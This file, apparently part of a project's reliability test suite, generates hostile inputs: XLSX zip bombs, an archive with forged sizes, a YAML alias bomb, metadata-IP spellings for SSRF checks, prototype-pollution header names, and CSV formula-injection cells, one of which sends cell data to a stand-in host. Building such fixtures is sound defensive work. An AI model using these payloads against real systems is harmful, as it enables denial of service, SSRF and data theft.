@@ -1,0 +1,332 @@
+/**
+ * Generators of hostile input, one per class (issue 13 and reliability.md): broken encodings,
+ * zip bombs, huge cells and lines, oversize configs. Everything is built in memory or streamed to
+ * a temp file from a seed, so the suite needs no committed binaries and every case is reproducible.
+ */
+import * as zlibModule from "node:zlib";
+import { deflateRawSync, constants as zlibConstants } from "node:zlib";
+import iconv from "iconv-lite";
+
+// ---------------------------------------------------------------------------------------------
+// Encodings
+
+export const CATALOG_HEADER = "handle,title,sku,price\n";
+
+/** The title of row `i`: accents a Latin-1 or a mis-decode would mangle. */
+export const latinTitle = (i: number): string => `Café Crème Niño ${i}`;
+export const chineseTitle = (i: number): string => `蓝色衬衫朱镕基牌 ${i}`;
+
+function catalogText(rows: number, title: (i: number) => string): string {
+  let text = CATALOG_HEADER;
+  for (let i = 1; i <= rows; i++) text += `p-${i},${title(i)},SKU-${i},12.50\n`;
+  return text;
+}
+
+/** Where a fault goes: the first data row, inside the 64 KiB detection window, or far after it. */
+export type Place = "start" | "middle" | "end";
+export const PLACES: readonly Place[] = ["start", "middle", "end"];
+/** 3,000 rows of about 40 bytes: row 800 is inside the first 64 KiB, row 2,990 well after it. */
+export const FAULT_ROWS = 3000;
+export const faultRow = (place: Place): number => (place === "start" ? 1 : place === "middle" ? 800 : 2990);
+
+/** Byte offset of the first byte of data row `i`'s title in `bytes` (rows are "p-i,"). */
+function titleOffset(bytes: Buffer, i: number): number {
+  const at = bytes.indexOf(Buffer.from(`\np-${i},`));
+  return at + `\np-${i},`.length;
+}
+
+/** A UTF-8 catalog in which one "é" of row `place` is a lone Latin-1 byte 0xE9. */
+export function utf8WithStrayByte(place: Place): Buffer {
+  const bytes = Buffer.from(catalogText(FAULT_ROWS, latinTitle), "utf8");
+  const at = titleOffset(bytes, faultRow(place)) + 3; // "Caf" then é = C3 A9
+  return Buffer.concat([bytes.subarray(0, at), Buffer.from([0xe9]), bytes.subarray(at + 2)]);
+}
+
+/** A GBK catalog in which one byte of row `place`'s title is 0xFF (never valid in GB18030). */
+export function gbkWithBadByte(place: Place): Buffer {
+  const bytes = Buffer.from(iconv.encode(catalogText(FAULT_ROWS, chineseTitle), "gbk"));
+  const at = titleOffset(bytes, faultRow(place)) + 2; // second character's lead byte
+  bytes[at] = 0xff;
+  return bytes;
+}
+
+/** A Windows-1252 (Latin-1) catalog: neither UTF-8 nor GB18030. */
+export function latin1Catalog(rows = 20): Buffer {
+  return iconv.encode(catalogText(rows, latinTitle), "windows-1252");
+}
+
+/** UTF-16LE without a BOM (some tools save Excel's "Unicode text" so). */
+export function utf16NoBom(rows = 20, encoding: "utf-16le" | "utf-16be" = "utf-16le"): Buffer {
+  const le = iconv.encode(catalogText(rows, chineseTitle), "utf-16le");
+  if (encoding === "utf-16le") return le;
+  const be = Buffer.from(le);
+  be.swap16();
+  return be;
+}
+
+/** UTF-16LE cut after an odd number of bytes. */
+export function utf16OddLength(rows = 20): Buffer {
+  const b = utf16NoBom(rows);
+  return Buffer.concat([b, Buffer.from([0x41])]);
+}
+
+/** Valid UTF-8 that carries U+FFFD: text damaged before the file was written. */
+export function utf8WithReplacementChar(place: Place): Buffer {
+  const text = catalogText(FAULT_ROWS, (i) => (i === faultRow(place) ? "Caf\uFFFD Cr\uFFFDme" : latinTitle(i)));
+  return Buffer.from(text, "utf8");
+}
+
+/** GB18030 for the first 64 KiB, then UTF-8 (two exports pasted together). */
+export function gbThenUtf8(): Buffer {
+  const head = iconv.encode(catalogText(2000, chineseTitle), "gb18030");
+  let tail = "";
+  for (let i = 2001; i <= 2400; i++) tail += `p-${i},${latinTitle(i)},SKU-${i},12.50\n`;
+  return Buffer.concat([head, Buffer.from(tail, "utf8")]);
+}
+
+/** A clean GB18030 catalog (the control: read exactly). */
+export function gb18030Catalog(rows = FAULT_ROWS): Buffer {
+  return iconv.encode(catalogText(rows, chineseTitle), "gb18030");
+}
+
+// ---------------------------------------------------------------------------------------------
+// SSRF
+
+/** Every spelling of a metadata address an attacker may put in a URL (URL host form). */
+export const METADATA_LITERALS: readonly string[] = [
+  "169.254.169.254",
+  "169.254.170.2",
+  "169.254.0.23",
+  "100.100.100.200",
+  "192.0.0.192",
+  "168.63.129.16",
+  "[fd00:ec2::254]",
+  "[::ffff:a9fe:a9fe]",
+  "[::a9fe:a9fe]",
+  "[::ffff:0:a9fe:a9fe]",
+  "[64:ff9b::a9fe:a9fe]",
+  "[2002:a9fe:a9fe::]",
+  "[::ffff:6464:64c8]",
+  "[fe80::1]",
+  "2852039166", // 169.254.169.254 as one decimal number
+  "0xa9fea9fe",
+  "0251.0376.0251.0376",
+  "169.254.43518",
+];
+
+// ---------------------------------------------------------------------------------------------
+// XLSX zip bombs and hostile workbooks: a minimal zip writer (APPNOTE 4.3), so sizes and ratios
+// are exactly what each case needs, and the directory can lie.
+
+const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
+  let c = n;
+  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+  return c >>> 0;
+});
+
+function crc32(buf: Uint8Array, crc = 0): number {
+  // Native when Node has it (20.15+): a 1 GB bomb's checksum in a second, not a minute.
+  const native = (zlibModule as { crc32?: (b: Uint8Array, c: number) => number }).crc32;
+  if (native) return native(buf, crc);
+  let c = crc ^ 0xffffffff;
+  for (let i = 0; i < buf.length; i++) c = (CRC_TABLE[(c ^ (buf[i] as number)) & 0xff] as number) ^ (c >>> 8);
+  return (c ^ 0xffffffff) >>> 0;
+}
+
+export interface ZipPart {
+  name: string;
+  /** The expanded content, or a repeated unit (for bombs: never held whole in memory). */
+  data: string | Buffer | { head: string; unit: string; times: number; tail: string };
+  /** Store the entry uncompressed. */
+  stored?: boolean;
+  /** Claim this expanded size in the headers instead of the real one (a forged archive). */
+  claimUncompressed?: number;
+}
+
+function deflatePart(part: ZipPart): { compressed: Buffer; size: number; crc: number } {
+  const d = part.data;
+  if (typeof d === "string" || Buffer.isBuffer(d)) {
+    const raw = typeof d === "string" ? Buffer.from(d, "utf8") : d;
+    return { compressed: part.stored ? raw : deflateRawSync(raw, { level: 9 }), size: raw.length, crc: crc32(raw) };
+  }
+  // A bomb: raw deflate streams compressed on their own and sync-flushed (no final bit) can be
+  // concatenated, since no back-reference crosses them; so one compressed 1 MiB block repeated
+  // makes a gigabyte without ever holding it.
+  const unit = Buffer.from(d.unit, "utf8");
+  const perBlock = Math.max(1, Math.floor((1024 * 1024) / unit.length));
+  const block = Buffer.concat(Array(perBlock).fill(unit));
+  const sync = (b: Buffer): Buffer => deflateRawSync(b, { level: 9, finishFlush: zlibConstants.Z_SYNC_FLUSH });
+  const packedBlock = sync(block);
+  const blockCrcStep = (crc: number) => crc32(block, crc);
+  const head = Buffer.from(d.head, "utf8");
+  const tail = Buffer.from(d.tail, "utf8");
+  const outs: Buffer[] = [sync(head)];
+  let crc = crc32(head);
+  let size = head.length;
+  let left = d.times;
+  while (left >= perBlock) {
+    outs.push(packedBlock);
+    crc = blockCrcStep(crc);
+    size += block.length;
+    left -= perBlock;
+  }
+  const rest = block.subarray(0, left * unit.length);
+  outs.push(sync(rest), deflateRawSync(tail, { level: 9 }));
+  crc = crc32(tail, crc32(rest, crc));
+  size += rest.length + tail.length;
+  return { compressed: Buffer.concat(outs), size, crc };
+}
+
+export function buildZip(parts: readonly ZipPart[]): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const part of parts) {
+    const { compressed, size, crc } = deflatePart(part);
+    const name = Buffer.from(part.name, "utf8");
+    const usize = part.claimUncompressed ?? size;
+    const method = part.stored ? 0 : 8;
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(0x0800, 6); // UTF-8 names
+    local.writeUInt16LE(method, 8);
+    local.writeUInt32LE(crc, 14);
+    local.writeUInt32LE(compressed.length, 18);
+    local.writeUInt32LE(Math.min(usize, 0xffffffff), 22);
+    local.writeUInt16LE(name.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(0x0800, 8);
+    central.writeUInt16LE(method, 10);
+    central.writeUInt32LE(crc, 16);
+    central.writeUInt32LE(compressed.length, 20);
+    central.writeUInt32LE(Math.min(usize, 0xffffffff), 24);
+    central.writeUInt16LE(name.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, name, compressed);
+    centrals.push(central, name);
+    offset += 30 + name.length + compressed.length;
+  }
+  const dir = Buffer.concat(centrals);
+  const eocd = Buffer.alloc(22);
+  eocd.writeUInt32LE(0x06054b50, 0);
+  eocd.writeUInt16LE(parts.length, 8);
+  eocd.writeUInt16LE(parts.length, 10);
+  eocd.writeUInt32LE(dir.length, 12);
+  eocd.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, dir, eocd]);
+}
+
+const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`;
+const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
+const WORKBOOK = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`;
+const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`;
+const SHEET_HEAD = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`;
+const SHEET_TAIL = "</sheetData></worksheet>";
+const EMPTY_SST = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>`;
+
+const inline = (ref: string, text: string): string => `<c${ref ? ` r="${ref}"` : ""} t="inlineStr"><is><t>${text}</t></is></c>`;
+
+/** A workbook whose sheet is `sheet` (the XML inside <sheetData>), or a repeated unit for bombs. */
+export function workbook(sheet: ZipPart["data"], extra: Partial<ZipPart> = {}): Buffer {
+  const data =
+    typeof sheet === "string" || Buffer.isBuffer(sheet)
+      ? `${SHEET_HEAD}${sheet}${SHEET_TAIL}`
+      : { head: `${SHEET_HEAD}${sheet.head}`, unit: sheet.unit, times: sheet.times, tail: `${sheet.tail}${SHEET_TAIL}` };
+  return buildZip([
+    { name: "[Content_Types].xml", data: CONTENT_TYPES },
+    { name: "_rels/.rels", data: ROOT_RELS },
+    { name: "xl/workbook.xml", data: WORKBOOK },
+    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS },
+    { name: "xl/sharedStrings.xml", data: EMPTY_SST },
+    { name: "xl/worksheets/sheet1.xml", data, ...extra },
+  ]);
+}
+
+const HEADER_ROW = `<row r="1">${inline("A1", "handle")}${inline("B1", "title")}${inline("C1", "sku")}${inline("D1", "price")}</row>`;
+
+/** A zip bomb: a sheet of `mb` MB of identical rows (ratio ~1000). */
+export function xlsxBomb(mb: number): Buffer {
+  const unit = `<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></is></c></row>`;
+  return workbook({ head: HEADER_ROW, unit, times: Math.ceil((mb * 1024 * 1024) / unit.length), tail: "" });
+}
+
+/** One cell of `mb` MB, as a bomb (one run of "A"). */
+export function xlsxHugeCell(mb: number): Buffer {
+  return workbook({
+    head: `${HEADER_ROW}<row r="2"><c r="A2" t="inlineStr"><is><t>`,
+    unit: "A".repeat(1024),
+    times: mb * 1024,
+    tail: "</t></is></c></row>",
+  });
+}
+
+/** A cell of `chars` pseudo-random letters: compresses poorly, so only the streaming cap stops it. */
+export function xlsxLongCell(chars: number, seed = 7): Buffer {
+  let x = seed;
+  const letters = Buffer.alloc(chars);
+  for (let i = 0; i < chars; i++) {
+    x = (x * 1103515245 + 12345) & 0x7fffffff;
+    letters[i] = 97 + (x % 26);
+  }
+  return workbook(`${HEADER_ROW}<row r="2">${inline("A2", letters.toString("latin1"))}</row>`);
+}
+
+/** A forged archive: the sheet claims 10 kB but expands to `mb` MB. */
+export function xlsxLyingSizes(mb: number): Buffer {
+  const unit = `<row><c t="inlineStr"><is><t>p</t></is></c></row>`;
+  return workbook({ head: HEADER_ROW, unit, times: Math.ceil((mb * 1024 * 1024) / unit.length), tail: "" }, { claimUncompressed: 10_000 });
+}
+
+/** Cells and rows without r= attributes (valid OOXML; some generators write it). */
+export function xlsxWithoutRefs(rows: readonly string[][]): Buffer {
+  const xml = rows.map((cells) => `<row>${cells.map((c) => (c === "" ? "<c/>" : inline("", c))).join("")}</row>`).join("");
+  return workbook(xml);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Oversize lines
+
+/** A CSV whose second record is `mb` MB long: no line break at all, or an unclosed quote. */
+export function longLine(mb: number, quoted: boolean): Buffer {
+  const head = Buffer.from(`handle,title,sku,price\np-1,${quoted ? '"' : ""}`);
+  return Buffer.concat([head, Buffer.alloc(mb * 1024 * 1024, 0x78)]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Config files
+
+/** A syntactically valid config of about `mb` MB (one long attribute synonym list). */
+export function hugeConfig(mb: number): string {
+  const head = "stores:\n  shop:\n    platform: local\nattributes:\n  colour:\n    values:\n      red: [";
+  const item = '"rouge-xxxxxxxxxxxxxxxx", ';
+  return `${head}${item.repeat(Math.ceil((mb * 1024 * 1024) / item.length))}"r"]\n`;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Classes handled before issue 13, kept in the suite so they stay handled
+
+/** Header names that would reach Object.prototype if rows were plain objects keyed by them. */
+export const PROTOTYPE_HEADERS = ["__proto__", "constructor", "prototype", "Constructor "];
+
+/** A YAML "billion laughs": nine levels of aliases, each ten times the one below. */
+export function yamlAliasBomb(): string {
+  const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
+  for (let i = 1; i <= 9; i++) {
+    const refs = Array.from({ length: 10 }, () => `*a${i - 1}`).join(",");
+    lines.push(`a${i}: &a${i} [${refs}]`);
+  }
+  return `${lines.join("\n")}\nstores:\n  shop:\n    platform: local\n`;
+}
+
+/** Cells a spreadsheet program would run as formulas (OWASP CSV injection triggers). */
+export const FORMULA_TITLES = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"];
